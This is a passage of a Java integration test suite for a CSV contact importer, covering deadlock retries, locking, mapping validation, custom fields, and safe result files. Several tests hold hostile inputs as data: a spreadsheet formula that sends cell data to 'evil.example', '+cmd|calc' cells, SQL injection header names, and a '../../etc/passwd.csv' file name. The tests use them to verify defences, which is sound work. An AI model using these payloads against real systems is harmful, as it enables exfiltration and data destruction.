        String name = losesDeadlocks(ws.id(), "b@example.com", 1);
        try {
            assertThat(d.start(up.id()).status()).isEqualTo(202);
            JsonNode job = ws.api().awaitImportEnd(up.id());

            assertThat(job.path("status").asText()).as(job.toString()).isEqualTo("completed");
            assertThat(db.sql("select last_value from " + name).query(Long.class).single()).as("b's inserts tried").isEqualTo(2);
        } finally {
            dropRefusals(name);
        }
        assertThat(d.contactCount()).isEqualTo(3);
        assertThat(d.find("email=b@example.com")).hasSize(1);
        assertThat(db.sql("select count(*) from domain_event where workspace_id = ? and type = 'contact.created'")
                .param(ws.id()).query(Integer.class).single()).as("one event per contact, none from the lost attempt").isEqualTo(3);
        JsonNode job = ws.api().get("/api/v1/imports/" + up.id()).json();
        assertThat(job.path("progress").path("rows_done").asInt()).isEqualTo(3);
        assertThat(job.path("counts").path("added").asInt()).isEqualTo(3);
    }

    @Test
    void aChunkThatKeepsLosingDeadlocksFailsTheImportWithoutHalfOfItAndTheImportFinishesWhenStartedAgain() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Uploaded up = reviewedInChunks(ws, d, "deadlocks.csv", 1);
        String name = losesDeadlocks(ws.id(), "b@example.com", Integer.MAX_VALUE);
        try {
            assertThat(d.start(up.id()).status()).isEqualTo(202);
            JsonNode failed = ws.api().awaitImportEnd(up.id());
            assertThat(failed.path("status").asText()).as(failed.toString()).isEqualTo("failed");
            assertThat(failed.path("failure").asText()).as(failed.toString())
                    .startsWith("Row 3 could not be applied: PostgreSQL stopped the change 5 times in a row")
                    .contains("deadlock detected (made by the test)").contains("Nothing of it was applied")
                    .doesNotContain("insert into");
            assertThat(db.sql("select last_value from " + name).query(Long.class).single()).as("b's tries").isEqualTo(5);
            // the import's page and the bell say it in the reader's language
            java.util.Locale spanish = java.util.Locale.forLanguageTag("es");
            assertThat(jobs.get(ws.id(), up.id()).failure(spanish))
                    .startsWith("La fila 3 no se pudo aplicar: PostgreSQL detuvo el cambio 5 veces seguidas")
                    .endsWith("No se aplicó nada de ella.");
            assertThat(notifications.recent(ws.id(), 1).get(0).message(spanish))
                    .startsWith("La fila 3 no se pudo aplicar").contains("inicia de nuevo la importación para terminarla");
        } finally {
            dropRefusals(name);
        }
        // every chunk that committed is counted, and b's chunk left nothing behind
        JsonNode failed = ws.api().get("/api/v1/imports/" + up.id()).json();
        assertThat(d.find("email=b@example.com")).isEmpty();
        assertThat(d.contactCount()).isEqualTo(failed.path("progress").path("rows_done").asLong()).isLessThan(3);

        assertThat(d.start(up.id()).status()).isEqualTo(202);
        JsonNode done = d.await(up.id());
        assertThat(done.path("status").asText()).as(done.toString()).isEqualTo("completed");
        assertThat(d.contactCount()).isEqualTo(3);
        assertThat(db.sql("select count(*) from domain_event where workspace_id = ? and type = 'contact.created'")
                .param(ws.id()).query(Integer.class).single()).isEqualTo(3);
    }

    @Test
    void aChunkThatPostgresqlRefusesFailsAtOnceNamingItsRowsAndPostgresqlsWords() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Uploaded up = reviewedInChunks(ws, d, "refused.csv", 2);
        String name = refusesInserts(ws.id(), "c@example.com", Integer.MAX_VALUE, "check_violation", "no room for c (made by the test)");
        try {
            assertThat(d.start(up.id()).status()).isEqualTo(202);
            JsonNode failed = ws.api().awaitImportEnd(up.id());
            assertThat(failed.path("status").asText()).as(failed.toString()).isEqualTo("failed");
            assertThat(failed.path("failure").asText()).isEqualTo("Row 4 could not be applied: PostgreSQL refused the change: "
                    + "no room for c (made by the test). Nothing of it was applied.");
            assertThat(db.sql("select last_value from " + name).query(Long.class).single()).as("tried once, not again").isEqualTo(1);
        } finally {
            dropRefusals(name);
        }
        assertThat(d.find("email=c@example.com")).isEmpty();
        assertThat(d.contactCount()).isEqualTo(ws.api().get("/api/v1/imports/" + up.id()).json().path("progress").path("rows_done").asLong());
    }

    /** Three new contacts a, b and c (rows 2 to 4), reviewed and to be applied in chunks of {@code rows} rows. */
    private ImportDriver.Uploaded reviewedInChunks(Ws ws, ImportDriver d, String fileName, int rows) {
        ImportDriver.Uploaded up = d.reviewed(fileName, "Email,Name\na@example.com,A\nb@example.com,B\nc@example.com,C\n",
                options("add-and-update", "email"));
        db.sql("update import_job set chunk_rows = ? where workspace_id = ? and id = ?").params(rows, ws.id(), up.id()).update();
        return up;
    }

    /**
     * Makes the first {@code times} inserts of a contact with this email into this workspace fail as a deadlock's
     * victim does (SQLSTATE 40P01). A sequence counts the tries: unlike a table, it keeps counting through the
     * rollbacks. Returns the name to pass to {@link #dropRefusals}.
     */
    private String losesDeadlocks(long ws, String email, int times) {
        return refusesInserts(ws, email, times, "deadlock_detected", "deadlock detected (made by the test)");
    }

    /** As {@link #losesDeadlocks}, with another error of PostgreSQL's. */
    private String refusesInserts(long ws, String email, int times, String errcode, String message) {
        String name = "test_deadlock_" + ws;
        db.sql("create sequence " + name).update();
        db.sql("""
                create function %1$s() returns trigger language plpgsql as $f$
                begin
                  if new.workspace_id = %2$d and new.email = '%3$s' and nextval('%1$s') <= %4$d then
                    raise exception '%6$s' using errcode = '%5$s';
                  end if;
                  return new;
                end $f$""".formatted(name, ws, email, times, errcode, message)).update();
        db.sql("create trigger " + name + " before insert on contact for each row execute function " + name + "()").update();
        return name;
    }

    private void dropRefusals(String name) {
        db.sql("drop trigger " + name + " on contact").update();
        db.sql("drop function " + name + "()").update();
        db.sql("drop sequence " + name).update();
    }

    @Test
    void anImportGivesBackItsLockWhenItEndsSoItsPooledConnectionDoesNotKeepIt() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Uploaded up = d.reviewed("lock.csv", "Email,Name\na@example.com,A\n", options("add-and-update", "email"));
        db.sql("update import_job set status = 'running' where workspace_id = ? and id = ?").params(ws.id(), up.id()).update();

        assertThat(runner.run(ws.id(), up.id(), n -> { }, new Timings())).isTrue();

        assertThat(ws.api().get("/api/v1/imports/" + up.id()).json().path("status").asText()).isEqualTo("completed");
        assertThat(db.sql("""
                with k as (select hashtextextended(?, 0) as h)
                select count(*) from pg_locks, k where locktype = 'advisory' and objsubid = 1
                  and classid::bigint = (k.h >> 32) & 4294967295 and objid::bigint = k.h & 4294967295""")
                .param("porter-import-" + ws.id() + "-" + up.id()).query(Integer.class).single())
                .as("sessions holding the import's lock").isZero();
    }

    @Test
    void onlyOneImportRunsAtATimeInAWorkspace() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Uploaded first = d.upload("first.csv", "Email,Name\na@example.com,A\n");
        ImportDriver.Uploaded second = d.upload("second.csv", "Email,Name\nb@example.com,B\n");
        for (ImportDriver.Uploaded u : List.of(first, second)) {
            assertThat(d.plan(u.id(), options("add-and-update", "email"), mapping(u.suggestedMapping(), Map.of())).status()).isEqualTo(200);
            assertThat(d.review(u.id()).status()).isEqualTo(200);
        }
        // the first import is running (as if its process were busy with a large file)
        db.sql("update import_job set status = 'running', started_at = now() where workspace_id = ? and id = ?")
                .params(ws.id(), first.id()).update();
        try {
            Api.Response refused = d.start(second.id());
            assertThat(refused.status()).as(refused.toString()).isEqualTo(409);
            assertThat(refused.detail()).contains("first.csv").contains("only one runs at a time");
            assertThat(ws.api().get("/api/v1/imports/" + second.id()).json().path("status").asText()).isEqualTo("reviewed");

            // another workspace is not held up
            Ws other = newWorkspace("ES");
            ImportDriver o = new ImportDriver(other.api());
            assertThat(o.run("Email,Name\nc@example.com,C\n", options("add-and-update", "email")).statuses()).containsExactly("Imported");
        } finally {
            db.sql("update import_job set status = 'failed', failure = 'test' where workspace_id = ? and id = ?")
                    .params(ws.id(), first.id()).update();
        }
        assertThat(d.start(second.id()).status()).isEqualTo(202);
        d.await(second.id());
    }

    // ---------------------------------------------------------------- mapping rules

    static Stream<Arguments> badPlans() {
        return Stream.of(
                Arguments.of("a field mapped twice", options("add-and-update", "email"),
                        Map.of("Other email", "email"), List.of("both map to email")),
                Arguments.of("nothing mapped", options("add-all", null),
                        Map.of("Email", "skip", "Name", "skip", "Phone", "skip", "Other email", "skip"),
                        List.of("No column is mapped", "needs a name")),
                Arguments.of("identifier not mapped", options("add-and-update", "phone"),
                        Map.of("Phone", "skip"), List.of("a column must be mapped to phone")),
                Arguments.of("no name for a purpose that creates", options("add-new", "email"),
                        Map.of("Name", "skip"), List.of("needs a name")),
                Arguments.of("contact-id with a purpose that creates", options("add-and-update", "contact-id"),
                        Map.of("Other email", "contact_id"), List.of("contact-id identifier works only with update-existing")),
                Arguments.of("do not overwrite with add-new", with(options("add-new", "email"), "no_overwrite", true),
                        Map.of(), List.of("'Do not overwrite'")),
                Arguments.of("do not overwrite with add-all", with(options("add-all", null), "no_overwrite", true),
                        Map.of(), List.of("'Do not overwrite'")),
                Arguments.of("every problem at once", with(options("add-new", "phone"), "no_overwrite", true),
                        Map.of("Phone", "skip", "Name", "skip", "Other email", "email"),
                        List.of("'Do not overwrite'", "both map to email", "a column must be mapped to phone", "needs a name")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("badPlans")
    void aPlanThatCannotRunIsRefusedWithEveryProblem(String what, Map<String, Object> options, Map<String, Object> overrides,
                                                     List<String> expected) {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Uploaded up = d.upload("plan.csv", "Email,Name,Phone,Other email\na@example.com,A,612345678,x@example.com\n");
        List<Map<String, Object>> m = mapping(up.suggestedMapping(), overrides);
        Api.Response r = d.plan(up.id(), options, m);
        assertThat(r.status()).as(r.toString()).isEqualTo(400);
        List<String> problems = new ArrayList<>();
        r.json().path("problems").forEach(p -> problems.add(p.asText()));
        assertThat(problems).as(r.toString()).hasSize(expected.size());
        for (String e : expected) {
            assertThat(problems).as(r.toString()).anyMatch(p -> p.contains(e));
        }
        assertThat(ws.api().get("/api/v1/imports/" + up.id()).json().path("options").isNull()).isTrue();
    }

    @Test
    void contactIdIdentifierUpdatesTheContactItNames() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        String c = d.createContact("email", "a@example.com", "name", "A").path("id").asText();
        ImportDriver.Outcome o = d.run("Id,City\n" + c + ",Madrid\n00000000-0000-0000-0000-000000000000,Bilbao\n",
                options("update-existing", "contact-id"));
        assertThat(o.statuses()).containsExactly("Updated", "Skipped");
        assertThat(d.contact(c).path("city").asText()).isEqualTo("Madrid");
    }

    @Test
    void anotherToolsIdColumnDoesNotMakeRowsErrorsWhenMatchingByEmail() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Outcome o = d.run("Id,Email,Name\n456789,a@example.com,A\n", options("add-and-update", "email"));
        assertThat(o.statuses()).as(o.rows().toString()).containsExactly("Imported");
        assertThat(d.find("email=a@example.com")).hasSize(1);
    }

    @Test
    void unmatchedColumnsBecomeCustomTextFieldsNamedAfterTheHeader() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Uploaded up = d.upload("fields.csv", "Email,Name,Favourite colour,Código postal\na@example.com,A,blue,28001\n");
        JsonNode fav = up.suggestedMapping().get(2);
        assertThat(fav.path("field").asText()).isEqualTo("custom.favourite_colour");
        assertThat(fav.path("create").path("type").asText()).isEqualTo("text");
        assertThat(fav.path("create").path("label").asText()).isEqualTo("Favourite colour");
        assertThat(up.suggestedMapping().get(3).path("field").asText()).isEqualTo("custom.codigo_postal");

        ImportDriver.Outcome o = d.run(up, options("add-and-update", "email"), mapping(up.suggestedMapping(), Map.of()));
        assertThat(o.statuses()).containsExactly("Imported");
        JsonNode field = ws.api().get("/api/v1/fields/favourite_colour").json();
        assertThat(field.path("label").asText()).isEqualTo("Favourite colour");
        assertThat(field.path("type").asText()).isEqualTo("text");
        assertThat(ws.api().get("/api/v1/fields/codigo_postal").json().path("label").asText()).isEqualTo("Código postal");
        JsonNode a = d.byEmail("a@example.com");
        assertThat(a.path("custom_attributes").path("favourite_colour").asText()).isEqualTo("blue");
        assertThat(a.path("custom_attributes").path("codigo_postal").asText()).isEqualTo("28001");
    }

    @Test
    void customFieldsAreCreatedWithTheKeyAndTypeTheUserGives() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Outcome o = d.run("Email,Name,Puntos,Activo,Alta cliente\na@example.com,A,12.5,sí,15/01/2024\n",
                options("add-and-update", "email"), Map.of(
                        "Puntos", Map.of("field", "custom.points", "create", Map.of("type", "number", "label", "Loyalty points")),
                        "Activo", Map.of("field", "custom.active", "create", Map.of("type", "boolean", "label", "Active")),
                        "Alta cliente", Map.of("field", "custom.customer_since", "create", Map.of("type", "date", "label", "Customer since"))));
        assertThat(o.statuses()).as(o.rows().toString()).containsExactly("Imported");
        assertThat(ws.api().get("/api/v1/fields/points").json().path("type").asText()).isEqualTo("number");
        assertThat(ws.api().get("/api/v1/fields/points").json().path("label").asText()).isEqualTo("Loyalty points");
        assertThat(ws.api().get("/api/v1/fields/active").json().path("type").asText()).isEqualTo("boolean");
        assertThat(ws.api().get("/api/v1/fields/customer_since").json().path("type").asText()).isEqualTo("date");
        JsonNode custom = d.byEmail("a@example.com").path("custom_attributes");
        assertThat(custom.path("points").isNumber()).isTrue();
        assertThat(custom.path("points").asDouble()).isEqualTo(12.5);
        assertThat(custom.path("active").asBoolean()).isTrue();
        assertThat(custom.path("customer_since").asText()).startsWith("2024-01-15");
    }

    // ---------------------------------------------------------------- files

    @Test
    void resultAndErrorFilesKeepTheOriginalRowsAndNeutraliseFormulas() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        String csv = """
                Email,Name,Notes,Phone
                ana@example.com,"=HYPERLINK(""http://evil.example/?""&A1)",+cmd|calc,+34 612 34 56 78
                bad@,@cmd,-2+3,
                "bea@example.com","Bea Núñez","-12.5",612345678
                tab@example.com,"\tTabbed","\rcarriage",
                """;
        ImportDriver.Uploaded up = d.upload("notes.csv", csv);
        List<Map<String, Object>> m = mapping(up.suggestedMapping(), Map.of());
        assertThat(d.plan(up.id(), options("add-and-update", "email"), m).status()).isEqualTo(200);
        assertThat(d.review(up.id()).status()).isEqualTo(200);

        List<List<String>> errors = ImportDriver.parse(ws.api().get("/api/v1/imports/" + up.id() + "/errors.csv").body());
        assertThat(errors.get(0)).containsExactly("Email", "Name", "Notes", "Phone", "Error");
        assertThat(errors).hasSize(2);
        assertThat(errors.get(1).subList(0, 4)).containsExactly("bad@", "'@cmd", "'-2+3", "");
        assertThat(errors.get(1).get(4)).contains("Email").contains("'bad@'");

        assertThat(d.start(up.id()).status()).isEqualTo(202);
        d.await(up.id());
        List<List<String>> result = ImportDriver.parse(ws.api().get("/api/v1/imports/" + up.id() + "/result.csv").body());
        assertThat(result.get(0)).containsExactly("Email", "Name", "Notes", "Phone", "Import status", "Errors");
        assertThat(result).hasSize(5);
        assertThat(result.get(1)).containsExactly("ana@example.com", "'=HYPERLINK(\"http://evil.example/?\"&A1)", "'+cmd|calc",
                "+34 612 34 56 78", "Imported", "");
        assertThat(result.get(2).subList(0, 5)).containsExactly("bad@", "'@cmd", "'-2+3", "", "Error");
        assertThat(result.get(3)).containsExactly("bea@example.com", "Bea Núñez", "-12.5", "612345678", "Imported", "");
        assertThat(result.get(4).subList(0, 3)).containsExactly("tab@example.com", "'\tTabbed", "'\rcarriage");
        // the contact keeps what the file said: neutralising is for the downloaded files only
        assertThat(d.byEmail("ana@example.com").path("name").asText()).startsWith("=HYPERLINK(");
    }

    @Test
    void theStatusColumnsStayUnderTheirHeadersWhenARowHasMoreOrFewerCells() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Uploaded up = d.reviewed("ragged.csv", "Email,Name,City\na@example.com,A,Madrid\nb@example.com,B,Bilbao,extra,more\nc@example.com,C\n", options("add-and-update", "email"));
        List<List<String>> errors = ImportDriver.parse(ws.api().get("/api/v1/imports/" + up.id() + "/errors.csv").body());
        assertThat(errors).hasSize(2);
        assertThat(errors.get(1).subList(0, 3)).containsExactly("b@example.com", "B", "Bilbao");
        assertThat(errors.get(1).get(3)).contains("5 cells");
        assertThat(errors.get(1).subList(4, 6)).containsExactly("extra", "more");

        assertThat(d.start(up.id()).status()).isEqualTo(202);
        d.await(up.id());
        List<List<String>> result = ImportDriver.parse(ws.api().get("/api/v1/imports/" + up.id() + "/result.csv").body());
        assertThat(result.get(1)).containsExactly("a@example.com", "A", "Madrid", "Imported", "");
        assertThat(result.get(2).subList(0, 4)).containsExactly("b@example.com", "B", "Bilbao", "Error");
        assertThat(result.get(2).subList(5, 7)).containsExactly("extra", "more");
        assertThat(result.get(3)).containsExactly("c@example.com", "C", "", "Imported", "");
        assertThat(d.find("email=b@example.com")).isEmpty();
    }

    @Test
    void headerNamesNeverReachSqlAndFileNamesNeverReachTheFileSystem() throws Exception {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        String hostile = "x\"; drop table contact; --";
        String csv = "Email,Name,\"x\"\"; drop table contact; --\",\"'); delete from tag; --\"\n"
                + "a@example.com,A,one,two\n";
        ImportDriver.Uploaded up = d.upload("../../etc/passwd.csv", csv);
        assertThat(up.body().path("import").path("header").get(2).asText()).isEqualTo(hostile);
        assertThat(up.body().path("import").path("file_name").asText()).doesNotContain("/").doesNotContain("..");

        ImportDriver.Outcome o = d.run(up, options("add-and-update", "email"), mapping(up.suggestedMapping(), Map.of()));
        assertThat(o.statuses()).containsExactly("Imported");
        assertThat(o.header()).startsWith("Email", "Name", hostile);
        JsonNode a = d.byEmail("a@example.com");
        assertThat(a.path("custom_attributes").path("x_drop_table_contact").asText()).isEqualTo("one");
        assertThat(a.path("custom_attributes").path("delete_from_tag").asText()).isEqualTo("two");
        assertThat(ws.api().get("/api/v1/fields/x_drop_table_contact").json().path("label").asText()).isEqualTo(hostile);
        assertThat(db.sql("select count(*) from contact").query(Long.class).single()).isPositive();

        // a name with folders in it is data: nothing named after it lands anywhere on disk
        Path data = dataDir.toAbsolutePath().normalize();
        try (Stream<Path> files = Files.walk(data)) {
            assertThat(files.filter(p -> p.getFileName().toString().contains("passwd")).toList()).isEmpty();
        }
        assertThat(data.getParent().resolve("etc")).doesNotExist();
        assertThat(Path.of("/etc/passwd.csv")).doesNotExist();
        Api.Response result = ws.api().get("/api/v1/imports/" + up.id() + "/result.csv");
        assertThat(result.status()).isEqualTo(200);
    }
}
